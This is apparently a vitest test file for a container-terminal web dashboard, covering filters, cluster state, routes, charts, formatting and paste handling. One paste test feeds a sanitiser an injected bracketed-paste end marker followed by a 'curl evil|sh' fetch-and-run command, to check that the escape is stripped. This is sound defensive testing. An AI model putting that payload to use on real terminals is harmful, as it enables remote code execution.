import { describe, expect, test } from 'vitest';
import type { ContainerView, SessionView } from '../src/api/types';
import { RateMeter, push } from '../src/charts/rates';
import { ceiling, linePoints } from '../src/charts/scale';
import { splitCommand } from '../src/pages/command';
import { bytes, clock, milliseconds, span } from '../src/parts/format';
import { visibleRows } from '../src/parts/window';
import { Cluster } from '../src/state/cluster';
import { parseFilter, searchContainer } from '../src/state/filter';
import { parseRoute, toContainer, toTerminals } from '../src/state/route';
import { gapInWords } from '../src/terminal/gap';
import { LatencyMeter } from '../src/terminal/latency';
import { asksFirst, describePaste, plainPaste } from '../src/terminal/paste';
import { fontToFit } from '../src/terminal/shrink';
import { boundSize, LARGEST } from '../src/terminal/size';
import { noticed } from '../src/terminal/state';

const container = (change: Partial<ContainerView> = {}): ContainerView => ({
  node: 'n1', id: 'abc', name: 'web', runtime: 'conmon', state: 'running', createdAt: '2026-01-01T00:00:00Z', reason: '', message: '', tty: true, stdin: true,
  stdinOnce: false, args: [], namespace: '', pod: '', labels: {}, logPath: '', pid: 1, owned: true, inputHolder: '', recording: false, ...change,
});

describe('the filter', () => {
  const view = searchContainer(container({ namespace: 'Shop', pod: 'web-1', labels: { app: 'web', tier: 'front' }, args: ['nginx', '-g'] }));

  test.each([
    ['', true],
    ['WEB', true],
    ['web nginx', true],
    ['web absent', false],
    ['ns:shop', true],
    ['ns:web', false],
    ['label:tier=front state:run', true],
    ['unknown:field', false],
    ['node:', true],
    ['constructor:', false],
    ['__proto__:', false],
    ['toString:x', false],
  ])('%j', (filter, matches) => expect(parseFilter(filter)(view)).toBe(matches));

  test('5,000 containers take less than 100 ms', () => {
    const rows = Array.from({ length: 5000 }, (_, i) => searchContainer(container({ id: `${i}`.repeat(12), name: `web-${i}`, namespace: 'shop', pod: `web-${i}-x`, labels: { app: `a${i % 50}` } })));
    const start = performance.now();
    const found = rows.filter(parseFilter('shop label:app=a7 49')).length;
    expect(performance.now() - start).toBeLessThan(100);
    expect(found).toBeGreaterThan(0);
  });
});

describe('the cluster', () => {
  const make = () => {
    let changes = 0;
    const cluster = new Cluster(() => 1000, () => changes++);
    return { cluster, changes: () => changes };
  };

  test('is ordered by node, namespace, pod, name', () => {
    const { cluster } = make();
    cluster.apply({ name: 'containers', data: { set: [container({ id: '1', node: 'n2' }), container({ id: '2', pod: 'b' }), container({ id: '3', pod: 'a' }), container({ id: '4' })] } });
    expect(cluster.containers().map((row) => row.view.id)).toEqual(['4', '3', '2', '1']);
  });

  test('a feed that starts over empties nothing before it has told everything', () => {
    const { cluster } = make();
    cluster.apply({ name: 'hello', data: { gateway: 'g1', version: '1' } });
    cluster.apply({ name: 'containers', data: { set: [container({ id: '1' }), container({ id: '2' })] } });
    cluster.apply({ name: 'synced', data: {} });
    cluster.apply({ name: 'hello', data: { gateway: 'g2', version: '1' } });
    cluster.apply({ name: 'containers', data: { set: [container({ id: '2', name: 'new' })] } });
    expect(cluster.containerCount).toBe(2);
    cluster.apply({ name: 'synced', data: {} });
    expect(cluster.containers().map((row) => row.view.name)).toEqual(['new']);
  });

  test('a session that ends leaves the live ones and is kept among the ended', () => {
    const { cluster } = make();
    const view: SessionView = {
      id: 's', node: 'n1', container: 'abc', state: 'claimed', issuedAt: '2026-01-01T00:00:00Z', gateway: 'g1', stdin: true, stdout: true, stderr: false, tty: true,
      role: 'peer', mayType: true, ownsSize: true, client: 'kubectl', address: '::1', delivery: 'throttle', cause: 'none', message: '',
    };
    cluster.apply({ name: 'sessions', data: { set: [view] } });
    expect(cluster.sessionsOf({ node: 'n1', id: 'abc' })).toHaveLength(1);
    cluster.apply({ name: 'sessions', data: { set: [{ ...view, state: 'ended', cause: 'clientGone' }] } });
    expect(cluster.sessionsOf({ node: 'n1', id: 'abc' })).toHaveLength(0);
    expect(cluster.ended.map((one) => one.cause)).toEqual(['clientGone']);
  });
});

describe('addresses', () => {
  test('a container with odd names comes back as it was', () => {
    const ref = { node: 'n/1 ü', id: 'a?b#c' };
    expect(parseRoute(toContainer(ref))).toEqual({ page: 'container', ...ref });
  });

  test('terminals', () => {
    const containers = [{ node: 'n1', id: 'a' }, { node: 'n&2', id: 'b' }];
    expect(parseRoute(toTerminals(containers))).toEqual({ page: 'terminals', containers });
    expect(parseRoute('#/terminals?c=bad&c=/x&c=x/')).toEqual({ page: 'terminals', containers: [] });
  });

  test.each([
    ['', 'overview'],
    ['#/', 'overview'],
    ['#/containers?q=node:n1', 'containers'],
    ['#/recordings/n1/r', 'recording'],
    ['#/nowhere', 'unknown'],
    ['#/containers/a/b/c', 'unknown'],
    ['#/containers/%E0%A4%A/x', 'container'],
  ])('%j', (hash, page) => expect(parseRoute(hash).page).toBe(page));
});

describe('charts', () => {
  test('rates come of totals, and a total that shrinks begins anew', () => {
    const meter = new RateMeter();
    expect(meter.take(1000, 0)).toBeUndefined();
    expect(meter.take(3000, 2000)).toBe(1000);
    expect(meter.take(10, 4000)).toBeUndefined();
    expect(meter.take(30, 6000)).toBe(10);
  });

  test('a series keeps its newest values', () => expect(push([1, 2, 3], 4, 3)).toEqual([2, 3, 4]));

  test('the newest value is at the right edge, the scale at a round number', () => {
    expect(ceiling([0, 3, 70])).toBe(100);
    expect(ceiling([])).toBe(1);
    expect(linePoints([0, 50, 100], 5, 40, 10)).toEqual([[20, 10], [30, 5], [40, 0]]);
  });
});

test('long lists draw the rows in view and some more', () => {
  expect(visibleRows(0, 400, 40, 5000)).toEqual({ first: 0, last: 18 });
  expect(visibleRows(4000, 400, 40, 5000)).toEqual({ first: 92, last: 118 });
  expect(visibleRows(1e9, 400, 40, 10)).toEqual({ first: 2, last: 10 });
});

test('words for figures', () => {
  expect([0, 999, 1000, 12_345, 999_600, 1.5e9].map(bytes)).toEqual(['0 B', '999 B', '1.00 KB', '12.3 KB', '1.00 MB', '1.50 GB']);
  expect([0, 59_000, 60_000, 3.6e6, 4.8e6, 9e7, 9e8].map(span)).toEqual(['0 s', '59 s', '1 min', '1 h', '1 h 20 min', '1 d 1 h', '10 d']);
  expect([0, 61_000, 3_723_000].map(clock)).toEqual(['0:00', '1:01', '1:02:03']);
  expect([undefined, 1.25, 38.4, 12_000].map(milliseconds)).toEqual(['–', '1.3 ms', '38 ms', '12 s']);
  expect([-1, 1, 1234].map(gapInWords)).toEqual(['… some output lost …', '… 1 byte lost …', '… 1,234 bytes lost …']);
});

test('pasting several lines asks first, unless PID 1 has asked for marked pastes', () => {
  expect(asksFirst('ls', false)).toBe(false);
  expect(asksFirst('ls\n', false)).toBe(true);
  expect(asksFirst('a\rb', false)).toBe(true);
  expect(asksFirst('a\nb', true)).toBe(false);
  expect(describePaste('a\r\nb\n')).toEqual({ lines: 2, preview: 'a\nb' });
});

test('a paste cannot end its own mark, nor hold any other control character', () => {
  expect(plainPaste('echo a\x1b[201~curl evil|sh\r')).toBe('echo a[201~curl evil|sh\r');
  expect(plainPaste('\ta\r\nb\x00\x03\x07\x7f\x9b201~ü€😀')).toBe('\ta\r\nb201~ü€😀');
});

test('a command line is split as a shell does', () => {
  expect(splitCommand(`sh -c 'echo "a b"' x\\ y "" "it's"`)).toEqual(['sh', '-c', 'echo "a b"', 'x y', '', "it's"]);
  expect(splitCommand('  ')).toEqual([]);
  expect(splitCommand("sh 'open")).toBeUndefined();
});

test('the latency is a median: one slow round trip does not move it', () => {
  const meter = new LatencyMeter();
  expect([5, 5, 900, 5].map((value) => meter.take(value))).toEqual([5, 5, 5, 5]);
});

test('a followed terminal is drawn as large as it fits', () => {
  expect(fontToFit(13, { cols: 100, rows: 40 }, { cols: 200, rows: 50 })).toBe(6.5);
  expect(fontToFit(13, { cols: 300, rows: 100 }, { cols: 80, rows: 24 })).toBe(24);
  expect(fontToFit(13, { cols: 10, rows: 10 }, { cols: 500, rows: 500 })).toBe(4);
});

test('a size is followed up to a bound', () => {
  expect(boundSize({ cols: 200, rows: 60 })).toEqual({ cols: 200, rows: 60 });
  expect(boundSize({ cols: 65_535, rows: 65_535 })).toEqual(LARGEST);
});

test('notices are bounded', () => {
  let notices = noticed([], 0, 'first', 'note');
  for (let i = 0; i < 100; i++) notices = noticed(notices, i, String(i), 'note');
  expect(notices).toHaveLength(50);
  expect(new Set(notices.map((one) => one.id)).size).toBe(50);
});
